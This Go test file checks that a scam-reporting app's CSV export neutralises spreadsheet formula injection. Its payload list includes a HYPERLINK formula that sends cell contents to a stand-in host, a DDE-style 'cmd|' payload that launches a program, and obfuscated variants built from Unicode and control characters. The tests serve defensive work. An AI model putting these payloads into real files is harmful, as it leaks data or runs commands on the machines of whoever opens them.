package main

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode"

	"hangup/advice"
	"hangup/bot"
)

// The threat: what somebody reports is a formula, which a table of the moderator's runs when the file is opened.

// formulas begin as what tables run, or hide that they do.
var formulas = []string{
	`=HYPERLINK("https://scam.test/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
	`";=1+1`, `x";"=1+1`, "|calc", "%0A=1+1", "=\x00cmd", "'=1+1", "\v=1", "\f=1", "\u2028=1+1", "\u202e=1+1",
}

// firstSign is the first sign of a cell that a person or a table would see.
func firstSign(cell string) rune {
	for _, r := range cell {
		if !unicode.IsSpace(r) && !unicode.Is(unicode.Cf, r) && !unicode.IsControl(r) {
			return r
		}
	}
	return 0
}

// Every text of a report that a person writes is a formula.
func TestNoCellOfAFileIsAFormula(t *testing.T) {
	t.Parallel()
	e := engineOf(t)
	for _, f := range formulas {
		var out strings.Builder
		w := bot.NewReportWriter(&out, bot.ReportsCSV, e)
		w.Write(bot.Report{Happened: f, Claimed: f, Note: f, When: f, Number: f, Type: advice.ScamType(f), At: time.Unix(0, 0)})
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %v, %d rows", f, err, len(rows))
		}
		held := 0
		for _, cell := range rows[1] {
			if strings.ContainsRune("=+-@＝＋－＠|%", firstSign(cell)) {
				t.Errorf("%q becomes the cell %q", f, cell)
			}
			if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || strings.HasPrefix(cell, "\n") {
				t.Errorf("%q becomes the cell %q, which some tables trim", f, cell)
			}
			if strings.HasSuffix(cell, f[len(f)-2:]) {
				held++
			}
		}
		if held < 3 {
			t.Errorf("%q is in %d cells, so nothing was tried: %q", f, held, rows[1])
		}
	}
}

// The same through the program: told on the page, written out by the operator.
func TestNoReportOfThePageIsAFormulaInTheFile(t *testing.T) {
	t.Parallel()
	a := startTestApp(t, "", time.Minute)
	b := newBrowser(t, a.URL)
	for _, f := range formulas[:5] {
		b.pressOn(b.sendForm("report", map[string]string{"type": "courier_fraud", "happened": "nothing", "claimed": f, "area": "Kent", "note": f}), "save")
	}
	a.Stop()
	out := command(t, "", []string{"HANGUP_DATABASE_URL=" + a.settings.Database}, "export", "reports", "--csv").out
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%v: %s", err, out)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsRune("=+-@", firstSign(cell)) {
				t.Errorf("the cell %q", cell)
			}
		}
	}
}

// What is published for everybody has no words of people, and its cells are tried all the same.
func TestNoPublishedCellIsAFormula(t *testing.T) {
	t.Parallel()
	e := engineOf(t)
	for _, area := range e.Areas() {
		for _, cell := range []string{string(area.ID), area.Name, string(area.Nation)} {
			if cell != "" && strings.ContainsRune("=+-@", firstSign(cell)) {
				t.Errorf("the area %s has the cell %q", area.ID, cell)
			}
		}
	}
	for _, row := range openDictionary() {
		for _, cell := range row {
			if strings.ContainsRune("=+-@", firstSign(cell)) {
				t.Errorf("the dictionary has the cell %q", cell)
			}
		}
	}
}
